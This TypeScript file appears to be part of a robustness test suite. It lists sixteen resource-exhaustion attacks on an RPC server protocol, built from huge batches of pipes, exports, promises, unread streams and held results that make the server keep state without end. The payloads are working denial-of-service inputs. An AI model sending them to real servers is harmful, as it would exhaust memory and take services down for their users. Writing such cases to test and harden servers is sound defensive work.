import type { Attack } from "../attack.ts";
import { listOf, push, range, repeat, stream, times } from "../messages.ts";

const CHUNK = `["bytes","${"A".repeat(400_000)}"]`;

/** C: state that the server keeps for as long as the attacker likes. */
export const STATE: readonly Attack[] = [
  {
    id: "ATK-C01",
    title: "150,000 pipes in one text take kilobytes each.",
    over: "session",
    messages: () => [times(150_000, '["pipe"]', "\n")],
  },
  {
    id: "ATK-C02",
    title: "Millions of results are never pulled nor released.",
    over: "session",
    messages: () => repeat(12, times(250_000, push("0"), "\n")),
  },
  {
    id: "ATK-C03",
    title: "200,000 calls never end.",
    over: "session",
    needs: ["hang"],
    messages: ({ hang }) => [times(200_000, stream(hang()), "\n")],
  },
  {
    id: "ATK-C04",
    title: "200,000 calls wait for a promise of the attacker's that never resolves.",
    over: "session",
    messages: () => [
      push('["promise",-1]'),
      ...repeat(4, times(50_000, stream('["pipeline",1,["x"],[]]'), "\n")),
    ],
  },
  {
    id: "ATK-C05",
    title: "Exports with ids far apart fill the server's tables.",
    over: "session",
    messages: () => [
      push(listOf(range(1, 150_000, (i) => `["export",${-i * 60_000_000_000}]`))),
      push(listOf(range(1, 150_000, (i) => `["export",${-i * 1_024}]`))),
    ],
  },
  {
    id: "ATK-C06",
    title: "A Blob's content never ends.",
    over: "session",
    needs: ["size"],
    messages: function* ({ size }) {
      yield '["pipe"]';
      yield push(size('["blob","",["readable",1]]'));
      yield* repeat(2_000, stream(`["pipeline",1,["write"],[${CHUNK}]]`));
    },
  },
  {
    id: "ATK-C07",
    title: "A pipe that has no reader is written without end.",
    over: "session",
    messages: function* () {
      yield '["pipe"]';
      yield* repeat(2_000, stream(`["pipeline",1,["write"],[${CHUNK}]]`));
    },
  },
  {
    id: "ATK-C08",
    title: "A method keeps a stream that it doesn't read, and that is written without end.",
    over: "session",
    needs: ["sink"],
    messages: function* ({ sink }) {
      yield '["pipe"]';
      yield push(sink('["readable",1]'));
      yield* repeat(2_000, stream(`["pipeline",1,["write"],[${CHUNK}]]`));
    },
  },
  {
    id: "ATK-C09",
    title: "Two million stubs of the attacker's are never released.",
    over: "session",
    messages: function* () {
      for (let k = 0; k < 10; k++) {
        yield push(listOf(range(1, 200_000, (i) => `["export",${-(k * 200_000 + i)}]`)));
      }
    },
  },
  {
    id: "ATK-C10",
    title: "A million promises of the attacker's never settle.",
    over: "session",
    messages: function* () {
      for (let k = 0; k < 5; k++) {
        yield push(listOf(range(1, 190_000, (i) => `["promise",${-(k * 190_000 + i)}]`)));
      }
    },
  },
  {
    id: "ATK-C11",
    title: "30,000 readable ends of pipes are never read.",
    over: "session",
    messages: () => [
      times(30_000, '["pipe"]', "\n"),
      range(1, 30_000, (i) => push(`["readable",${i}]`)).join("\n"),
    ],
  },
  {
    id: "ATK-C12",
    title: "Results of a megabyte each are held, a thousand of them.",
    over: "session",
    messages: function* () {
      // Each text differs, so that no server can share them.
      for (let i = 0; i < 1_000; i++) yield push(`"${String(i).padStart(1_000_000, "x")}"`);
    },
  },
  {
    id: "ATK-C13",
    title: "Binary frames come without a text that refers to them.",
    over: "session",
    messages: function* () {
      const frame = new Uint8Array(1_000_000);
      for (let i = 0; i < 1_000; i++) yield frame;
    },
  },
  {
    id: "ATK-C14",
    title: "200 sessions of one client hold 3 MB each.",
    over: "session",
    copies: 200,
    messages: () => [push(`"${"x".repeat(3_000_000)}"`)],
  },
  {
    id: "ATK-C15",
    title: "200 HTTP batches at once wait for a promise that never resolves.",
    over: "batch",
    copies: 200,
    messages: () => [push(`"${"x".repeat(1_000_000)}"`), push('["promise",-1]'), '["pull",2]'],
  },
  {
    id: "ATK-C16",
    title: "A million small chunks are written to a pipe that has no reader.",
    over: "session",
    messages: function* () {
      yield '["pipe"]';
      yield* repeat(20, times(50_000, stream('["pipeline",1,["write"],[0]]'), "\n"));
    },
  },
];
